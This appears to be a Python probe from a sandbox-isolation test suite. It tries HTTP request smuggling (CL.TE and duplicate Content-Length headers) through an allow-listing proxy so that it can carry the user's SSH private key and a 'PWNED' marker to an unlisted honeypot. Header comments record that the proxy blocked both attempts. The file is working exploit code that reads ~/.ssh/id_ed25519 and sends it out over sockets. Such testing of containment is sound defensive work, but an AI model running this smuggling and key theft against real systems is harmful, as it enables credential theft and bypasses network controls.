# family: injection
# tries: through stockade-proxy, request smuggling to the allowed index: Content-Length with Transfer-Encoding, and two Content-Lengths, the second request (to the unlisted honeypot) carrying the SSH key and a PWNED marker
# source: https://portswigger.net/web-security/request-smuggling
# exfil: yes
# stopped-when: canary-unread, pwned-absent
# attempted-when: marker
# Stopped: the proxy refuses both heads (cl_and_te, multiple_cl: bad_request)
# before a byte goes upstream: the key, hidden in what the proxy would
# have taken for the body, reaches neither the index nor the honeypot.
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
token, home, port = sys.argv[1], sys.argv[2], int(sys.argv[4])
# The SSH key where the jail lets it be read; with it, always, the proof
# of delivery "PWNED <token>": the token stands for what a job has by
# design (its workspace), which an allow-list must keep in just as well.
try:
    with open(os.path.join(home, ".ssh/id_ed25519"), "rb") as f:
        loot = f.read()
except OSError as e:
    print(f"key: {e.strerror}")
    loot = b""
loot += f"\nPWNED {token}\n".encode()
# The proxy the jail names (HTTP_PROXY=http://127.0.0.1:3128), if any.
proxy = os.environ.get("HTTP_PROXY", "")
pxhost, _, pxport = proxy.removeprefix("http://").rstrip("/").rpartition(":")
print(f"ATTEMPTED {token}", file=sys.stderr, flush=True)


def talk(data, host=pxhost, port=int(pxport or 0), wait=2.0):
    """Sends DATA to HOST:PORT; what came back (at most 4 KiB) or the error."""
    try:
        with socket.create_connection((host, port), timeout=wait) as s:
            s.sendall(data)
            return s.recv(4096)
    except OSError as e:
        return repr(e).encode()


if not proxy:
    # No proxy here (a column without the allow-list): the same bytes
    # straight to the host's loopback, which only isolation stops.
    print("no proxy:", talk(loot, "127.0.0.1", port)[:60])
    sys.exit(0)
ok = f"127.0.0.2:{port}".encode()
hidden = (b"POST http://127.0.0.1:" + str(port).encode() + b"/ HTTP/1.1\r\nHost: 127.0.0.1:" +
          str(port).encode() + b"\r\nContent-Length: " + str(len(loot)).encode() + b"\r\n\r\n" + loot)
body = b"0\r\n\r\n" + hidden
clte = (b"POST http://" + ok + b"/ HTTP/1.1\r\nHost: " + ok + b"\r\nContent-Length: " +
        str(len(body)).encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + body)
print("CL.TE", talk(clte)[:40])
twocl = (b"POST http://" + ok + b"/ HTTP/1.1\r\nHost: " + ok + b"\r\nContent-Length: 0\r\n"
         b"Content-Length: " + str(len(hidden)).encode() + b"\r\n\r\n" + hidden)
print("CL.CL", talk(twocl)[:40])
